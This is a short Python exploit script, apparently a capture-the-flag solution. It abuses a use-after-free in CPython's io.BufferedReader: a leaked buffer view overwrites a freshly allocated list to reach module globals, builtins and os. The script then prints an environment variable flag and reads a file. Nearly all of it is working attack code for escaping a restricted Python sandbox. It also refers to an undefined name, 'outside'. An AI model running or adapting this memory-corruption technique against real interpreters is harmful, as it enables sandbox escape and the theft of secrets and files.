# A buffered reader hands its buffer to a raw stream, to be filled. The stream keeps that view, the
# reader dies, and the view shows memory which by now belongs to another object.
import io
import json


class Raw(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        self.view = view  # It should be of no use after this call, but nobody sees to that.
        return 0


# A list takes 56 bytes. So many lists that the allocator has hardly a gap of that size left, nor
# dead lists kept for reuse.
full = [[] for _ in range(1000)]
newcomers = [None] * 1000

# A buffer of that size.
raw = Raw()
reader = io.BufferedReader(raw, 56)
reader.read(1)
view = raw.view

# The reader dies and its buffer is freed. One of a thousand new lists moves in.
del reader
for place in range(1000):
    newcomers[place] = []

# What the view shows now: 16 bytes of the garbage collector's, a count of references, the type, the
# list's length (from byte 32 on), and the address of its items (40). Let that list have one item,
# a function's first field, 16 bytes from its start: the dict of its module's globals.
assert view[24:32] == id(list).to_bytes(8, "little")
before = bytes(view)
view[32:40] = (1).to_bytes(8, "little")
view[40:48] = (id(json.dumps) + 16).to_bytes(8, "little")
library = next(found for found in newcomers if found)[0]
view[:] = before

builtins = library["__builtins__"]
os = builtins["__import__"]("sys").modules["os"]

print(os.environ["MUSEUM_FLAG"], flush=True)
print(builtins["open"](outside["file"]).read())
